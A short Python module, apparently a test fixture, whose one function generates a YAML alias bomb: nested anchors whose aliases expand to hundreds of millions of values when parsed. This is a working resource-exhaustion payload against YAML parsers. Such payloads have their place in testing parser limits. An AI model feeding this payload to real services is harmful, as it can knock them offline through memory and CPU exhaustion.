"""A YAML file that grows without end when its aliases are followed."""

from __future__ import annotations


def bomb(levels: int = 9, each: int = 9) -> str:
    """YAML whose aliases stand for each ** levels values."""
    lines = ["a0: &a0 [x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * each)}]" for n in range(1, levels)]
    return "\n".join(lines)
